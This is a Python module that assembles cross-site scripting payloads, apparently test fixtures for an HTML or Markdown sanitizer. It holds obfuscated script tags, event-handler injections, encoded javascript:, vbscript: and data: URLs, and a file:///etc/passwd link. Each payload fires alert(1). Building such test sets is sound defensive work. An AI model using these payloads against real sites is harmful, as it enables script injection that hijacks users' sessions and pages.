"""What people type who want a script of theirs to run in others' pages. Each calls `alert(1)` if it gets there."""

import base64
import itertools
from pathlib import Path

SCRIPT = "<script>alert(1)</script>"
WRITTEN = Path(__file__).with_suffix(".txt")  # One a line, with ⏎ for a line break within.
UNSEEN = [
    "\ufffd<script>alert(1)</script>",
    "<\u017fcript>alert(1)</\u017fcript>",
    "<script\u2028>alert(1)</script\u2029>",
    "\u202e>tpircs/<)1(trela>tpircs<",
    "<\u200bscript>alert(1)</script>",
    "<\u00adscript>alert(1)</script>",
    "java\u200bscript:alert(1)",
    f"{'*' * 40}{SCRIPT}{'*' * 40}",
    f"{'>' * 60}{SCRIPT}",
    f"{'[' * 60}{SCRIPT}{']' * 60}(https://x.example)",
]
HANDLERS = {
    "img src=x": ["onerror", "ONERROR", "onerror\t", "on<x>error"],
    "svg": ["onload", "onbegin"],
    "body": ["onload", "onpageshow", "onhashchange", "onresize"],
    "input autofocus": ["onfocus", "oninput", "oninvalid"],
    "details open": ["ontoggle"],
    "video src=x": ["onerror", "onloadstart"],
    "audio src=x": ["onerror"],
    "marquee": ["onstart"],
    "p": ["onclick", "onmouseover", "onpointerenter", "oncopy", "onwheel", "tabindex=0 onfocusin", "onanimationstart"],
    "a href=x": ["ondragstart", "onauxclick"],
}
ADDRESSES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript&#x3A;alert(1)",
    "java&Tab;script:alert(1)",
    "java&#10;script:alert(1)",
    "&#1;javascript:alert(1)",
    "javascript\\:alert(1)",
    "%6Aavascript:alert(1)",
    "javascript://x.example/%0aalert(1)",
    "vbscript:msgbox(1)",
    f"data:text/html,{SCRIPT}",
    f"data:text/html;base64,{base64.b64encode(SCRIPT.encode()).decode()}",
    "view-source:javascript:alert(1)",
    "blob:https://x.example/1",
    "file:///etc/passwd",
]
LINKS = ["[x]({})", "[x](<{}>)", "![x]({})", "<{}>", "[x]\n\n[x]: {}"]

PAYLOADS = [
    *(line.replace("⏎", "\n") for line in WRITTEN.read_text().strip().split("\n")),
    *UNSEEN,
    *(f"<{tag} {event}=alert(1)>" for tag, events in HANDLERS.items() for event in events),
    *(link.format(address) for link, address in itertools.product(LINKS, ADDRESSES)),
]
# What a title or a name takes as well.
LINES = [payload for payload in PAYLOADS if len(payload) <= 100 and payload.isprintable()]
